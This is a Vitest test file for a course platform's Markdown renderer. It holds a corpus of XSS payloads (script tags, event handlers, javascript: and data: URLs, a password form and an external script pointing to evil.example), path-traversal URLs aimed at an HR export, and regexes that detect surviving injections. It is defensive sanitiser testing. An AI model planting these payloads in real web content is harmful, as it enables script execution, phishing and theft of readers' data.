import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../server/catalog/render-markdown.ts';

const ctx = { assetBase: '/courses/x/assets/', moduleBase: '/courses/x/' };

/** XSS payloads a course file could carry, as raw HTML or as Markdown. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/courses/x/assets/a.png" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JaVaScRiPt:alert(1)">clic</a>',
  '<a href="&#106;avascript:alert(1)">clic</a>',
  '<a href="java\tscript:alert(1)">clic</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
  '<a href="vbscript:msgbox(1)">clic</a>',
  '[clic](javascript:alert(1))',
  '[clic](JAVASCRIPT:alert(1))',
  '[clic](data:text/html,<script>alert(1)</script>)',
  '[clic](vbscript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0">faux</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="//evil.example">protocole implicite</a>',
  '[lien](<javascript:alert(1)>)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src=x onerror=alert(1)>-->',
  '`<script>` dans du code reste du texte',
];

const forbidden: [string, RegExp][] = [
  ['a script tag', /<script/i],
  ['an event handler attribute', /<[^>]+\son[a-z]+\s*=/i],
  ['a javascript: URL', /(href|src|action|data|formaction|background)\s*=\s*"?\s*(javascript|vbscript|data):/i],
  ['a style attribute', /\sstyle\s*=/i],
  [
    'an embedding tag',
    /<(iframe|object|embed|svg|math|style|link|meta|base|form|input|button|video|audio|source|details|body|marquee|noscript)\b/i,
  ],
  ['a protocol-relative link', /href="\/\//i],
];

describe('authored HTML sanitiser', () => {
  it('has a corpus of at least 30 payloads', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(30);
  });

  it.each(payloads)('neutralises %s', (payload) => {
    const { html } = renderMarkdown(`Avant\n\n${payload}\n\nAprès`, ctx);
    for (const [what, pattern] of forbidden) {
      expect(html, `${what} survived in: ${html}`).not.toMatch(pattern);
    }
    expect(html).toContain('Avant');
  });

  it('keeps ordinary formatting, headings with ids and safe links', () => {
    const { html, toc } = renderMarkdown(
      '## Les biais liés au statut\n\n**gras** et [site](https://exemple.fr) et [fiche](fichiers/fiche.pdf) et [suite](02-suite.md)\n\n![Atelier](images/a.png)',
      ctx,
    );
    expect(html).toContain('<h2 id="les-biais-liés-au-statut">');
    expect(toc).toEqual([{ id: 'les-biais-liés-au-statut', text: 'Les biais liés au statut', level: 2 }]);
    expect(html).toContain('<a href="https://exemple.fr" rel="noopener noreferrer nofollow">site</a>');
    expect(html).toContain('<a href="/courses/x/assets/fichiers/fiche.pdf">fiche</a>');
    expect(html).toContain('<a href="/courses/x/suite">suite</a>');
    expect(html).toContain('<img src="/courses/x/assets/images/a.png" alt="Atelier" loading="lazy" />');
  });

  it('gives table-of-contents entries as plain text, not escaped HTML', () => {
    const { toc } = renderMarkdown("## Ce que l'on voit & <em>ce qu'on tait</em>", ctx);
    expect(toc[0]?.text).toBe("Ce que l'on voit & ce qu'on tait");
  });

  it('turns an authored level-1 heading into a level-2 one, keeping a single h1 per page', () => {
    expect(renderMarkdown('# Titre', ctx).html).toMatch(/^<h2 id="titre">Titre<\/h2>/);
  });
});

describe('URLs kept in authored HTML', () => {
  // A same-origin URL in an image is fetched by every reader's browser with their cookies: it must not reach
  // a page with side effects, such as an HR export (security review, finding F3).
  it.each([
    '<img src="/hr/exports/completions.csv">',
    '<img src="/hr/exports/completions.csv?format=rfc&x=/assets/" alt="">',
    '![x](/hr/exports/completions.csv)',
    '![x](/hr/exports/completions.csv?x=/assets/)',
    '<img src="/courses/x/assets/../../../hr/exports/completions.csv">',
    '<img src="/courses/x/assets/%2e%2e/%2E%2E/%2e%2e/hr/exports/completions.csv">',
    '<img src="/courses/x/assets/..\\..\\..\\hr\\exports\\completions.csv">',
    '![x](../../../hr/exports/completions.csv)',
    '![x](images/%2e%2e/%2e%2e/%2e%2e/hr/exports/completions.csv)',
    '<a href="/hr/exports/completions.csv">export</a>',
    '[export](/hr/exports/completions.csv)',
    '[export](../../hr/exports/completions.csv)',
  ])('drops %s', (markdown) => {
    const { html } = renderMarkdown(`Avant ${markdown} après`, ctx);
    expect(html).not.toMatch(/exports|completions/);
    expect(html).toContain('Avant');
  });

  it.each([
    '<img src="/courses/autre/assets/a.png" alt="a">',
    '<img src="/courses/x/assets/a.png?v=1" alt="a">',
    '<img src="/courses/x/a.png" alt="a">',
    '<img src="//exemple.fr/courses/x/assets/a.png" alt="a">',
  ])('keeps only images of the course’s own files: drops %s', (markdown) => {
    expect(renderMarkdown(markdown, ctx).html).not.toContain('<img');
  });

  it('keeps the course’s own images, links to its files and modules, in-page and external links', () => {
    const { html } = renderMarkdown(
      [
        '![Atelier](images/a.png) ![Été](./images/été.png) <img src="/courses/x/assets/images/b.png" alt="b">',
        '[fiche](fichiers/fiche.pdf) [suite](02-suite.md#fin) [haut](#titre) [site](https://exemple.fr/a?b=c)',
        '[écrire](mailto:contact@exemple.fr) [appeler](tel:+33100000000)',
      ].join('\n\n'),
      ctx,
    );
    expect(html).toContain('<img src="/courses/x/assets/images/a.png" alt="Atelier" loading="lazy" />');
    expect(html).toContain('<img src="/courses/x/assets/images/%C3%A9t%C3%A9.png" alt="Été" loading="lazy" />');
    expect(html).toContain('<img src="/courses/x/assets/images/b.png" alt="b" loading="lazy" />');
    expect(html).toContain('<a href="/courses/x/assets/fichiers/fiche.pdf">fiche</a>');
    expect(html).toContain('<a href="/courses/x/suite#fin">suite</a>');
    expect(html).toContain('<a href="#titre">haut</a>');
    expect(html).toContain('<a href="https://exemple.fr/a?b=c" rel="noopener noreferrer nofollow">site</a>');
    expect(html).toContain('<a href="mailto:contact@exemple.fr">écrire</a>');
    expect(html).toContain('<a href="tel:+33100000000">appeler</a>');
  });

  it('puts each table in its own keyboard-reachable scrolling region, which authors cannot imitate', () => {
    const table = '| Outil | Usage |\n|---|---|\n| WhatsApp | famille |';
    const { html } = renderMarkdown(`${table}\n\nEntre les deux.\n\n${table}`, ctx);
    expect(html.match(/<div class="table-scroll" role="region" tabindex="0" aria-label="Tableau \d[^"]*">/g)).toEqual([
      '<div class="table-scroll" role="region" tabindex="0" aria-label="Tableau 1 (faites défiler horizontalement s’il dépasse)">',
      '<div class="table-scroll" role="region" tabindex="0" aria-label="Tableau 2 (faites défiler horizontalement s’il dépasse)">',
    ]);
    expect(html.match(/<\/table><\/div>/g)).toHaveLength(2);
    const authored = renderMarkdown(
      '<div role="region" tabindex="0" aria-label="x" onfocus="alert(1)">texte</div>',
      ctx,
    );
    expect(authored.html).not.toMatch(/tabindex|role=|onfocus/);
  });
});

describe('tables', () => {
  it('scroll sideways in a named box that takes the keyboard focus, with alignment as a class', () => {
    const { html } = renderMarkdown('| Usage | Oui ? |\n|---|:---:|\n| Message vocal | Oui |', ctx);
    expect(html).toMatch(/^<div class="table-scroll" role="region" tabindex="0" aria-label="Tableau[^"]*"><table>/);
    expect(html.trimEnd()).toMatch(/<\/table><\/div>$/);
    expect(html).toContain('<th class="align-center">Oui\u202f?</th>');
    expect(html).not.toContain('align="');
  });

  it('keep no attribute an author writes on a raw HTML table, and stay balanced', () => {
    const { html } = renderMarkdown(
      '<table class="x" onclick="alert(1)"><tr><td class="evil" align="right">a</td></tr></table>',
      ctx,
    );
    expect(html).not.toMatch(/onclick|evil|class="x"/);
    expect(html).toContain('<td class="align-right">a</td>');
    expect(html.match(/<div/g)).toHaveLength(html.match(/<\/div>/g)!.length);
  });

  it('applies French spacing to text, never to code, links’ addresses or where the author wrote no space', () => {
    const { html } = renderMarkdown(
      'Que feriez-vous ? Attention : « vraiment » ; bravo !\n\nÀ 14:05, voir [le site](https://exemple.fr/a:b) et `x ? y : z`.',
      ctx,
    );
    expect(html).toContain('Que feriez-vous\u202f? Attention\u00a0: «\u00a0vraiment\u00a0»\u202f; bravo\u202f!');
    expect(html).toContain('À 14:05');
    expect(html).toContain('href="https://exemple.fr/a:b"');
    expect(html).toContain('<code>x ? y : z</code>');
  });
});
